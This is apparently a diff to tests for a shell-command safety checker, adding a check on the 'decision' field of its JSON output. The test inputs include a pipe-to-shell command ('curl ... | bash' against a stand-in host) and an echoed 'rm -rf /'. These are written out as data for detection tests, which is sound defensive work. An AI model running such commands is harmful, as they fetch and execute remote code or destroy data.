@@ -29,8 +29,9 @@ def test_check_json_argv_and_string(tmp_path: Path) -> None:
                                 "playbook": "docs/playbooks/git_remote.md#git-push-force-shared"}]
     out = run(tmp_path, "check", "--json", "echo 'rm -rf /' && ls")
     assert out.returncode == 0
-    assert json.loads(out.stdout) == {"dangerous": False, "severity": None, "matches": [],
-                                      "registry_version": "1.1.0"}
+    data = json.loads(out.stdout)
+    assert data.pop("decision")["action"] == "allow"
+    assert data == {"dangerous": False, "severity": None, "matches": [], "registry_version": "1.1.0"}
     out = run(tmp_path, "check", "curl -s https://x.example | bash")
     assert out.returncode == 1 and "rce.pipe-to-shell" in out.stdout
 
